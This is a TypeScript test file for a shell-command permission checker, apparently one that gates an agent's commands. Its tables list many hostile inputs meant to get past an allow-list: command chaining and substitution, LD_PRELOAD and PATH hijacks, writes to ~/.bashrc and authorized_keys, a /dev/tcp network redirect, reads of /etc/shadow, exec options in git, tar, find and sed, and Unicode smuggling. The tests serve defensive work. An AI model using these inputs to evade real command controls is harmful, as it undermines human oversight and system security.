import { defaultModes } from '@drawbridge/contracts/groups';
import { visible } from '@drawbridge/kit';
import { describe, expect, it } from 'vitest';
import { prepareDenials } from './deny.ts';
import { evaluate } from './evaluate.ts';

const inFolder = (command: string, folder = '/w') => `${JSON.stringify(folder)} $ ${command}`;
const shell = (resource: string) => ({ toolGroup: 'shell' as const, resource });

/** What the person has always allowed: each exactly as it stands, in /w. */
const allowed = ['ls', 'ls -la', 'rm "a b"', 'find .', 'sed -n p f', 'git log', 'sort f', 'tar -cf a.tar b'];

const access = (resource: string, deny: string[] = []) =>
  evaluate(
    {
      modes: { ...defaultModes, shell: 'ask' },
      deny: prepareDenials(deny.map(shell)),
      allow: allowed.map((command) => shell(inFolder(command))),
      root: '/w',
    },
    { ...shell(resource), description: '' },
  );

const lines = (text: TemplateStringsArray) => String.raw(text).trim().split('\n');

const table: [string, string[]][] = [
  [
    'SH-01',
    ['ls; id', 'ls && id', 'ls || id', 'ls & id', 'ls | sh', 'ls |& sh', 'ls\nid', 'ls\r\nid', 'ls #\nid'],
  ],
  [
    'SH-02',
    lines`
LD_PRELOAD=/w/e.so ls
PATH=/w:$PATH ls
LD_AUDIT=/w/e.so ls
DYLD_INSERT_LIBRARIES=/w/e ls
BASH_ENV=/w/e ls
ENV=/w/e ls
GIT_SSH_COMMAND=/w/e git log
GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor git log
NODE_OPTIONS=--require=/w/e ls
PAGER=/w/e git log
PS4='$(id)' ls
PROMPT_COMMAND=id ls`,
  ],
  [
    'SH-03',
    lines`
sudo ls
doas ls
env ls
env -i X=1 ls
env -S"sh -c id"
nohup ls
nice -n10 ls
timeout 1 ls
stdbuf -o0 ls
setsid ls
watch ls
xargs ls
time -o/home/u/.bashrc ls
command ls
builtin ls
exec ls
busybox ls
busybox sh -c id
strace -o f ls
script -c id
flock f id
parallel ls`,
  ],
  ['SH-04', ['/tmp/evil/ls', './ls', '../ls', 'bin/ls', '~/bin/ls', '/bin/ls', '/usr/bin/../../tmp/ls']],
  [
    'SH-05',
    ['rm "a  b"', 'rm\t"a b"', 'rm\u00a0"a b"', 'rm "a b" ', " rm 'a b'", 'rm a\\ b', 'ls ', ' ls', 'ls\t'],
  ],
  [
    'SH-06',
    lines`
export PATH=/w
alias ls=id
ls() { id; }
set -x
trap id EXIT
cd /etc
umask 0
ulimit -c 0
hash -p /w/e ls
enable -f x
. ./x
source x
eval x
exec >f`,
  ],
  [
    'SH-07',
    ['ls $(id)', 'ls `id`', 'ls "$(id)"', 'ls ${x:-$(id)}', 'ls $((a[$(id)]))', 'ls ${x@P}', 'ls ${!x}'],
  ],
  ['SH-08', ['echo "ok $\\\n(id)"', 'echo `i\\\nd`', 'l\\\ns']],
  [
    'SH-09',
    [
      'cat <<E\n$(id)\nE',
      "cat <<'E'\n$(id)\nE",
      'cat <<E; id\nE',
      'cat <<-E',
      'cat <<\\E',
      'cat <<"E"',
      'ls <<E',
    ],
  ],
  ['SH-10', ['cat <(id)', 'tee >(sh)', 'cat <<< $(id)', 'ls <(id)']],
  [
    'SH-11',
    lines`
[[ -v 'a[$(id)]' ]]
printf -v 'a[$(id)]' x
declare 'a[$(id)]=1'
let 'a[$(id)]'
read 'a[$(id)]'
unset 'a[$(id)]'
[[ 'a[$(id)]' -eq 1 ]]`,
  ],
  [
    'SH-12',
    lines`
ls > ~/.bashrc
ls >> f
ls >| f
ls &> f
ls >&f
ls 1<>f
ls 2>f
ls {fd}>f
ls < /etc/shadow
ls >/dev/tcp/1.2.3.4/80
ls > $(id)
ls >~/.ssh/authorized_keys`,
  ],
  [
    'SH-13',
    lines`
l''s
l\s
"ls"
$'ls'
$'\x6cs'
{ls,-la}
/bin/l?
/bin/l[s]
l$@s
ls\${IFS}-la
$0 -c id
$SHELL -c id
$(printf ls)`,
  ],
  [
    'SH-14',
    ['(ls)', '{ ls; }', '! ls', 'if ls; then id; fi', 'while ls; do id; done', 'coproc id', 'time ls'],
  ],
  ['SH-15', ['ls # id', 'ls#x', 'ls \\#', 'echo a#b; id']],
  [
    'SH-16',
    [
      'ls\u00a0',
      'ls\u2028id',
      'ls\u0085id',
      'ls\uff1bid',
      '\u217cs',
      'l\u200bs',
      'ls\u202e',
      'l\u0301s',
      'ls\u0000',
      'ls\u009b',
      'ls\ud800',
    ],
  ],
  ['SH-17', ['ls\rid', 'id\rls', '\rls', 'ls\r']],
  [
    'SH-18',
    lines`
git --exec-path=/w log
git -c core.pager=id -p log
git -c core.fsmonitor=id log
git -c alias.x='!id' x
git grep --open-files-in-pager=id
git diff --ext-diff
git log --output=/w/x
git clone ext::sh`,
  ],
  [
    'SH-19',
    [
      'sort --compress-prog=./p f',
      'tar --checkpoint-act=exec=id -cf a.tar b',
      'sort f --out=f',
      'sort f --files0-f x',
    ],
  ],
  [
    'SH-20',
    lines`
tar -cf a.tar b --checkpoint=1 --checkpoint-action=exec=id
tar -I id -cf a.tar b
tar --to-command=id -xf a.tar
rsync -e id a b
ssh -o ProxyCommand=id h
vim -c '!id'
awk 'BEGIN{system("id")}'
sed 's/x/id/e' f
perl -e id
node -e 1
xargs id
make -f x
npm run x
npx x
find . -exec id {} +`,
  ],
  ['SH-21', ['=ls', 'ls *(e:id:)', '${(e)x}', 'zmodload x']],
  [
    'SH-22',
    [
      'ls & id',
      'ls ^& id',
      '%COMSPEC% /c ls',
      'cmd /c ls',
      'powershell -EncodedCommand x',
      'cd..',
      'X:',
      'ls &',
    ],
  ],
  ['SH-27', ['ls -al', 'ls -l -a', 'ls -a -l', 'ls  -la', 'ls -laR']],
  [
    'SH-28',
    [
      'find . -exec id \\;',
      'find . -execdir id \\;',
      'find . -ok id \\;',
      'find . -delete',
      'find . -fprint f',
      'find . -fls f',
    ],
  ],
  ['SH-29', ["sed -n 'w /w/x' f", 'sed -i p f', 'sed e f', 'sed --expression=e f', 'sed -n p f -i']],
];

describe('an allowed command is that command and no other', () => {
  it.each(allowed)('%j itself runs', (command) => {
    expect(access(inFolder(command))).toBe('allow');
  });

  it.each(table.flatMap(([id, commands]) => commands.map((command): [string, string] => [id, command])))(
    '%s %j asks, and is shown with nothing hidden',
    (_id, command) => {
      const resource = inFolder(command);
      expect(access(resource)).toBe('ask');
      expect(visible(resource)).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
    },
  );

  it.each(['/', '/w/', '/w/..', '/W', '/x', '/w\n', '~', `/${'x'.repeat(10_000)}`])(
    'SH-30 in another folder it asks: %j',
    (folder) => {
      expect(access(inFolder('ls', folder))).toBe('ask');
    },
  );

  it.each(['ls', '"/w" $  ls', '"/w"$ ls', '"/w" $ "/w" $ ls', "'/w' $ ls", '"\\/w" $ ls'])(
    'SH-30 no other spelling of folder and command is the same: %j',
    (resource) => {
      expect(access(resource)).toBe('ask');
    },
  );

  it.each(['cd sub && tee f', 'cd sub; ls', '(cd sub && ls)'])('SH-31 %s asks as a whole', (command) => {
    expect(access(inFolder(command))).toBe('ask');
  });

  it.each([51, 500, 5_000])('SH-33 the denied one last of %d is denied', (count) => {
    expect(access(inFolder(`${'ls; '.repeat(count - 1)}curl x`), ['curl'])).toBe('deny');
  });
});
